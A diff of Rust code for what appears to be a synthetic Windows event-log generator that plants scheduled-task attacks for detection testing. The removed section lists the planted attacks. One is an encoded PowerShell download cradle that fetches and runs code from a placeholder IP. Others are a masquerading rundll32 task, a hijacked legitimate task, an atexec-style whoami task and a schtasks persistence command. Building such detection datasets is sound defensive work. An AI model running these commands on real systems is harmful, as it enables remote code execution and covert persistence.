@@ -4,7 +4,8 @@
 //!
 //! Deterministic: the same configuration and seed give byte-identical files.
 
-pub mod background;
+mod attacks;
+mod background;
 pub mod catalog;
 
 use std::io;
@@ -16,6 +17,7 @@ use serde::Serialize;
 
 use crate::event::{CH_SECURITY, CH_TASKSCHEDULER};
 use crate::evtx_writer::{EventSpec, EvtxWriter};
+use attacks::{Targets, plant};
 pub use background::Background;
 use catalog::{Action, RunAs, Schedule, TaskDef, Where};
 
@@ -205,19 +207,34 @@ fn principal_of(def: &TaskDef, host: &Host) -> (String, String) {
     }
 }
 
+/// What a task definition says, for [`task_xml`].
+pub(crate) struct TaskXml<'a> {
+    pub uri: &'a str,
+    pub author: &'a str,
+    pub trigger_xml: &'a str,
+    /// A user's SID, or a group's (`group`).
+    pub principal: &'a str,
+    pub group: bool,
+    /// Runs at the highest level (else the least privilege).
+    pub highest: bool,
+    pub hidden: bool,
+    pub action: &'a Action,
+    pub working_dir: &'a str,
+}
+
 /// The task definition XML, as Security 4698 / 4702 carry it.
-#[allow(clippy::too_many_arguments)]
-pub fn task_xml(
-    uri: &str,
-    author: &str,
-    trigger_xml: &str,
-    principal: &str,
-    group: bool,
-    highest: bool,
-    hidden: bool,
-    action: &Action,
-    working_dir: &str,
-) -> String {
+pub(crate) fn task_xml(t: &TaskXml<'_>) -> String {
+    let TaskXml {
+        uri,
+        author,
+        trigger_xml,
+        principal,
+        group,
+        highest,
+        hidden,
+        action,
+        working_dir,
+    } = *t;
     let principal_xml = if group {
         format!("<GroupId>{}</GroupId>", xml_escape(principal))
     } else {
@@ -271,17 +288,17 @@ fn install(def: &TaskDef, host: &Host, rng: &mut StdRng, days: u32) -> HostTask 
         .replace("{SID}", &format!("{DOMAIN_SID}-{}", host.user_rid));
     let (principal, principal_sid) = principal_of(def, host);
     let group = matches!(def.run_as, RunAs::Users);
-    let xml = task_xml(
-        &path,
-        def.author,
-        def.schedule.trigger_xml(),
-        &principal_sid,
+    let xml = task_xml(&TaskXml {
+        uri: &path,
+        author: def.author,
+        trigger_xml: def.schedule.trigger_xml(),
+        principal: &principal_sid,
         group,
-        def.highest,
-        def.hidden,
-        &def.action,
-        "",
-    );
+        highest: def.highest,
+        hidden: def.hidden,
+        action: &def.action,
+        working_dir: "",
+    });
     // Most hosts had the software before the period; about a third install it during it.
     let installed =
         (def.installed_during && rng.random_bool(0.35)).then(|| rng.random_range(0..days.max(1)));
@@ -766,287 +783,12 @@ fn benign(g: &mut Gen<'_>, cfg: &Config, tasks: &[HostTask]) {
     }
 }
 
-fn random_task_name(rng: &mut StdRng) -> String {
-    (0..8)
-        .map(|_| {
-            let c = rng.random_range(0..52u8);
-            (if c < 26 { b'a' + c } else { b'A' + c - 26 }) as char
-        })
-        .collect()
-}
-
-/// Plant the attacks. Returns their descriptions (records are filled in when written).
-/// The hosts the attacks are planted on: workstations picked in turn, and the first server.
-struct Targets {
-    ws: Vec<usize>,
-    srv: usize,
-}
-
-/// Workstation picks the attacks use (`Targets::pick(0..WS_PICKS)`).
-const WS_PICKS: usize = 3;
-
-impl Targets {
-    /// `None` when no attack is planted.
-    fn of(hosts: &[Host], cfg: &Config) -> Option<Targets> {
-        let n = hosts.len();
-        if !cfg.attacks || n < 3 {
-            return None;
-        }
-        Some(Targets {
-            ws: (0..n).filter(|&i| !hosts[i].server).collect(),
-            srv: (0..n).find(|&i| hosts[i].server).unwrap_or(n - 1),
-        })
-    }
-
-    fn pick(&self, k: usize) -> usize {
-        self.ws[k % self.ws.len()]
-    }
-
-    /// Whether host `i` is planted on.
-    fn hit(&self, i: usize) -> bool {
-        i == self.srv || (0..WS_PICKS).any(|k| self.pick(k) == i)
-    }
-}
-
-fn plant(
-    gens: &mut [Gen<'_>],
-    tasks: &[Vec<HostTask>],
-    cfg: &Config,
-    targets: Option<&Targets>,
-) -> Vec<Attack> {
-    let mut attacks = Vec::new();
-    let Some(targets) = targets else {
-        return attacks;
-    };
-    let srv = targets.srv;
-    let pick = |k: usize| targets.pick(k);
-    let day = |d: u32| cfg.start + i64::from(d.min(cfg.days - 1)) * US_PER_DAY;
-    let mid = cfg.days / 2;
-
-    // 1. A hidden task that runs encoded PowerShell at logon, registered by the user.
-    let h = pick(0);
-    let id = attacks.len();
-    let g = &mut gens[h];
-    let user = g.host.user.clone();
-    let path = "\\OneDriveSyncHelper".to_string();
-    let action = Action::Exec {
-        command: "powershell.exe",
-        arguments: "-NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEAMAAvAGEAJwApAA==",
-    };
-    let sid = format!("{DOMAIN_SID}-{}", g.host.user_rid);
-    let xml = task_xml(
-        &path,
-        &format!("{DOMAIN}\\{user}"),
-        Schedule::Logon.trigger_xml(),
-        &sid,
-        false,
-        false,
-        true,
-        &action,
-        &format!("C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows"),
-    );
-    let t0 = day(mid) + 14 * US_PER_H + 17 * US_PER_MIN;
-    g.lifecycle(t0, 4698, &path, &xml, Some(&user), Some(id));
-    let task = HostTask {
-        path: path.clone(),
-        def: TaskDef {
-            action,
-            run_as: RunAs::User,
-            schedule: Schedule::Logon,
-            ..tasks[h][0].def
-        },
-        principal: format!("{DOMAIN}\\{user}"),
-        principal_sid: sid,
-        xml,
-        installed: None,
-    };
-    let mut runs = vec![t0 + 2 * US_PER_MIN];
-    for d in mid + 1..cfg.days {
-        runs.extend(g.run_times(Schedule::Logon, d, cfg.start));
-    }
-    for at in runs {
-        g.run(at, &task, None, Some(id));
-    }
-    attacks.push(Attack { id: "hidden-encoded-powershell".into(), technique: "T1053.005".into(), description: format!("hidden task registered by {DOMAIN}\\{user}, runs powershell -NoP -W Hidden -Enc (a download cradle) at logon"), host: g.host.fqdn.clone(), task_name: path, records: Vec::new() });
-
-    // 2. A task masquerading under \Microsoft\Windows\ that runs rundll32 on a DLL in ProgramData.
-    let h = pick(1);
-    let id = attacks.len();
-    let g = &mut gens[h];
-    let path = "\\Microsoft\\Windows\\Maintenance\\CacheCleanup".to_string();
-    let action = Action::Exec {
-        command: "C:\\Windows\\System32\\rundll32.exe",
-        arguments: "C:\\ProgramData\\Microsoft\\Crypto\\cachesvc.dll,DllRegisterServer",
-    };
-    let xml = task_xml(
-        &path,
-        "Microsoft Corporation",
-        Schedule::Daily.trigger_xml(),
-        "S-1-5-18",
-        false,
-        true,
-        false,
-        &action,
-        "",
-    );
-    let t0 = day(mid.saturating_sub(1)) + 22 * US_PER_H + 41 * US_PER_MIN;
-    let user = g.host.user.clone();
-    g.lifecycle(t0, 4698, &path, &xml, Some(&user), Some(id));
-    let task = system_task(&path, action, Schedule::Daily, xml);
-    for d in mid..cfg.days {
-        for at in g.run_times(Schedule::Daily, d, cfg.start) {
-            g.run(at, &task, None, Some(id));
-        }
-    }
-    attacks.push(Attack { id: "masquerading-rundll32".into(), technique: "T1053.005, T1036.004, T1218.011".into(), description: "task under \\Microsoft\\Windows\\ with a forged Microsoft author runs rundll32 on a DLL in ProgramData as SYSTEM".into(), host: g.host.fqdn.clone(), task_name: path, records: Vec::new() });
-
-    // 3. Sunburst-style: a legitimate task pointed at an attacker binary, run, then restored.
-    let h = pick(2);
-    let id = attacks.len();
-    let g = &mut gens[h];
-    let legit = tasks[h]
-        .iter()
-        .find(|t| t.path.ends_with("\\Consolidator"))
-        .cloned()
-        .unwrap_or_else(|| tasks[h][0].clone());
-    let action = Action::Exec {
-        command: "C:\\Windows\\Temp\\wsqmcons.exe",
-        arguments: "-k netsvcs",
-    };
-    let evil_xml = task_xml(
-        &legit.path,
-        MS_AUTHOR,
-        legit.def.schedule.trigger_xml(),
-        &legit.principal_sid,
-        false,
-        true,
-        false,
-        &action,
-        "",
-    );
-    let t0 = day(mid) + 2 * US_PER_H + 3 * US_PER_MIN;
-    let by = "admin.jones";
-    g.lifecycle(t0, 4702, &legit.path, &evil_xml, Some(by), Some(id));
-    let evil = HostTask {
-        xml: evil_xml,
-        def: TaskDef {
-            action,
-            ..legit.def
-        },
-        ..legit.clone()
-    };
-    g.run(t0 + 40 * US_PER_S, &evil, Some(by), Some(id));
-    g.lifecycle(
-        t0 + 6 * US_PER_MIN,
-        4702,
-        &legit.path,
-        &legit.xml,
-        Some(by),
-        Some(id),
-    );
-    attacks.push(Attack { id: "temporary-task-modification".into(), technique: "T1053.005 (Sunburst / Solorigate)".into(), description: format!("{} pointed at C:\\Windows\\Temp\\wsqmcons.exe, run on demand, and restored six minutes later", legit.path), host: g.host.fqdn.clone(), task_name: legit.path.clone(), records: Vec::new() });
-
-    // 4. ATSVC / atexec style: a randomly named task created remotely, run, deleted.
-    let h = srv;
-    let id = attacks.len();
-    let g = &mut gens[h];
-    let name = random_task_name(&mut g.rng);
-    let path = format!("\\{name}");
-    let args = format!("/C whoami > %windir%\\Temp\\{name}.tmp 2>&1");
-    // Actions hold static strings (the catalog is static); this one is made once per run.
-    let action = Action::Exec {
-        command: "cmd.exe",
-        arguments: Box::leak(args.into_boxed_str()),
-    };
-    let xml = task_xml(
-        &path,
-        "",
-        Schedule::Daily.trigger_xml(),
-        "S-1-5-18",
-        false,
-        true,
-        false,
-        &action,
-        "",
-    );
-    let t0 = day(cfg.days - 1) + 3 * US_PER_H + 33 * US_PER_MIN;
-    g.lifecycle(t0, 4698, &path, &xml, Some("admin.jones"), Some(id));
-    let task = system_task(&path, action, Schedule::Never, xml.clone());
-    g.run(t0 + US_PER_S, &task, Some("admin.jones"), Some(id));
-    g.lifecycle(
-        t0 + 4 * US_PER_S,
-        4699,
-        &path,
-        &xml,
-        Some("admin.jones"),
-        Some(id),
-    );
-    attacks.push(Attack { id: "atexec-remote-task".into(), technique: "T1053.005 (impacket atexec)".into(), description: "randomly named task created over the network, runs cmd.exe /C whoami into %windir%\\Temp, deleted seconds later".into(), host: g.host.fqdn.clone(), task_name: path, records: Vec::new() });
-
-    // 5. A task created by an account that never creates tasks, on one host only.
-    let h = srv;
-    let id = attacks.len();
-    let g = &mut gens[h];
-    let path = "\\SQL Cleanup".to_string();
-    let action = Action::Exec {
-        command: "C:\\Users\\Public\\Libraries\\sqlcln.exe",
-        arguments: "",
-    };
-    let xml = task_xml(
-        &path,
-        &format!("{DOMAIN}\\svc_sql"),
-        Schedule::Daily.trigger_xml(),
-        "S-1-5-18",
-        false,
-        true,
-        false,
-        &action,
-        "",
-    );
-    let t0 = day(1) + 23 * US_PER_H + 12 * US_PER_MIN;
-    g.schtasks(t0, "svc_sql", "schtasks /create /tn \"SQL Cleanup\" /tr \"C:\\Users\\Public\\Libraries\\sqlcln.exe\" /sc daily /ru SYSTEM /f", "C:\\Windows\\System32\\cmd.exe", Some(id));
-    g.lifecycle(t0 + 200_000, 4698, &path, &xml, Some("svc_sql"), Some(id));
-    let task = system_task(&path, action, Schedule::Daily, xml);
-    for d in 2..cfg.days {
-        for at in g.run_times(Schedule::Daily, d, cfg.start) {
-            g.run(at, &task, None, Some(id));
-        }
-    }
-    attacks.push(Attack { id: "unusual-account".into(), technique: "T1053.005".into(), description: "the SQL service account creates a SYSTEM task with schtasks, on one server only, running a binary from C:\\Users\\Public".into(), host: g.host.fqdn.clone(), task_name: path, records: Vec::new() });
-    attacks
-}
-
-const MS_AUTHOR: &str = "Microsoft Corporation";
-
-/// A planted task that runs as SYSTEM.
-fn system_task(path: &str, action: Action, schedule: Schedule, xml: String) -> HostTask {
-    let def = TaskDef {
-        path: "",
-        action,
-        run_as: RunAs::System,
-        schedule,
-        author: "",
-        hidden: false,
-        highest: true,
-        hosts: Where::All,
-        installed_during: false,
-    };
-    HostTask {
-        path: path.to_string(),
-        def,
-        principal: "NT AUTHORITY\\System".into(),
-        principal_sid: "S-1-5-18".into(),
-        xml,
-        installed: None,
-    }
-}
-
-/// The file a host's channel is written to, as KAPE names it.
 /// The System log of a host (background noise only).
 pub fn system_file(host: &str) -> String {
     format!("{host}/System.evtx")
 }
 
+/// The file a host's channel is written to, as KAPE names it.
 pub fn channel_file(host: &str, security: bool) -> String {
     if security {
         format!("{host}/Security.evtx")
@@ -1130,84 +872,16 @@ pub fn simulate(cfg: &Config, out: &Path) -> io::Result<GroundTruth> {
             if log == Log::System && cfg.background == Background::None {
                 continue;
             }
-            let rel = match log {
-                Log::Security => channel_file(&g.host.name, true),
-                Log::TaskScheduler => channel_file(&g.host.name, false),
-                Log::System => system_file(&g.host.name),
-            };
-            let path = out.join(&rel);
-            let mut w = EvtxWriter::new(io::BufWriter::new(std::fs::File::create(&path)?))?;
-            let mut noise = (log != Log::TaskScheduler).then(|| {
-                background::Noise::new(
-                    cfg.background,
-                    cfg.seed,
-                    hi,
-                    &g.host.name,
-                    &g.host.fqdn,
-                    g.host.server,
-                    log == Log::Security,
-                    cfg.days,
-                    cfg.start,
-                )
-            });
-            // Noise a day at a time, merged by time with the task events (a task event
-            // first at equal times).
-            let mut day: std::collections::VecDeque<EventSpec> = Default::default();
-            let mut refill = |day: &mut std::collections::VecDeque<EventSpec>| {
-                if day.is_empty()
-                    && let Some(n) = noise.as_mut()
-                {
-                    while let Some(d) = n.next_day() {
-                        if !d.is_empty() {
-                            day.extend(d);
-                            break;
-                        }
-                    }
-                }
-            };
-            let tasks = events.iter().filter(|p| match log {
-                Log::Security => p.security,
-                Log::TaskScheduler => !p.security,
-                Log::System => false,
-            });
-            for p in tasks {
-                loop {
-                    refill(&mut day);
-                    match day.front() {
-                        Some(n) if n.time < p.time => {
-                            let n = day.pop_front().expect("a front");
-                            w.write(&n)?;
-                            total += 1;
-                        }
-                        _ => break,
-                    }
-                }
-                let id = w.write(&p.spec)?;
-                total += 1;
-                if let Some(a) = p.attack {
-                    attacks[a].records.push(PlantedRecord {
-                        file: rel.clone(),
-                        record_id: id,
-                        event_id: p.spec.event_id,
-                    });
-                }
-            }
-            loop {
-                refill(&mut day);
-                let Some(n) = day.pop_front() else { break };
-                w.write(&n)?;
-                total += 1;
-            }
-            w.finish()?;
-            if let Some(z) = jsonl.as_mut() {
-                // A fixed member time keeps the archive byte-identical from run to run.
-                let opts = zip::write::SimpleFileOptions::default()
-                    .compression_method(zip::CompressionMethod::Deflated)
-                    .last_modified_time(zip::DateTime::default());
-                z.start_file(rel.replace(".evtx", ".jsonl"), opts)
-                    .map_err(io::Error::other)?;
-                write_jsonl(&path, z)?;
-            }
+            total += write_log(
+                out,
+                cfg,
+                hi,
+                g.host,
+                log,
+                &events,
+                &mut attacks,
+                jsonl.as_mut(),
+            )?;
         }
     }
     if let Some(z) = jsonl {
@@ -1223,6 +897,103 @@ pub fn simulate(cfg: &Config, out: &Path) -> io::Result<GroundTruth> {
     let json = serde_json::to_string_pretty(&truth).map_err(io::Error::other)?;
     std::fs::write(out.join("ground_truth.json"), json + "\n")?;
     Ok(truth)
+}
+
+/// Write one log of a host: its task events of that log, merged by time with the
+/// background noise a day at a time (a task event first at equal times); the planted
+/// records are named in `attacks`, and with `jsonl` the log goes into the zip of JSON
+/// Lines too. Returns the records written.
+#[allow(clippy::too_many_arguments)]
+fn write_log(
+    out: &Path,
+    cfg: &Config,
+    hi: usize,
+    host: &Host,
+    log: Log,
+    events: &[Pending],
+    attacks: &mut [Attack],
+    jsonl: Option<&mut zip::ZipWriter<std::fs::File>>,
+) -> io::Result<u64> {
+    let mut total = 0u64;
+    let rel = match log {
+        Log::Security => channel_file(&host.name, true),
+        Log::TaskScheduler => channel_file(&host.name, false),
+        Log::System => system_file(&host.name),
+    };
+    let path = out.join(&rel);
+    let mut w = EvtxWriter::new(io::BufWriter::new(std::fs::File::create(&path)?))?;
+    let mut noise = (log != Log::TaskScheduler).then(|| {
+        background::Noise::new(
+            cfg.background,
+            cfg.seed,
+            hi,
+            &host.name,
+            &host.fqdn,
+            host.server,
+            log == Log::Security,
+            cfg.days,
+            cfg.start,
+        )
+    });
+    // Noise a day at a time, merged by time with the task events (a task event
+    // first at equal times).
+    let mut day: std::collections::VecDeque<EventSpec> = Default::default();
+    let mut refill = |day: &mut std::collections::VecDeque<EventSpec>| {
+        if day.is_empty()
+            && let Some(n) = noise.as_mut()
+        {
+            while let Some(d) = n.next_day() {
+                if !d.is_empty() {
+                    day.extend(d);
+                    break;
+                }
+            }
+        }
+    };
+    let tasks = events.iter().filter(|p| match log {
+        Log::Security => p.security,
+        Log::TaskScheduler => !p.security,
+        Log::System => false,
+    });
+    for p in tasks {
+        loop {
+            refill(&mut day);
+            match day.front() {
+                Some(n) if n.time < p.time => {
+                    let n = day.pop_front().expect("a front");
+                    w.write(&n)?;
+                    total += 1;
+                }
+                _ => break,
+            }
+        }
+        let id = w.write(&p.spec)?;
+        total += 1;
+        if let Some(a) = p.attack {
+            attacks[a].records.push(PlantedRecord {
+                file: rel.clone(),
+                record_id: id,
+                event_id: p.spec.event_id,
+            });
+        }
+    }
+    loop {
+        refill(&mut day);
+        let Some(n) = day.pop_front() else { break };
+        w.write(&n)?;
+        total += 1;
+    }
+    w.finish()?;
+    if let Some(z) = jsonl {
+        // A fixed member time keeps the archive byte-identical from run to run.
+        let opts = zip::write::SimpleFileOptions::default()
+            .compression_method(zip::CompressionMethod::Deflated)
+            .last_modified_time(zip::DateTime::default());
+        z.start_file(rel.replace(".evtx", ".jsonl"), opts)
+            .map_err(io::Error::other)?;
+        write_jsonl(&path, z)?;
+    }
+    Ok(total)
 }
 
 /// Write a host's summary from its events, as `anomalog summarize HOST-FOLDER` would read
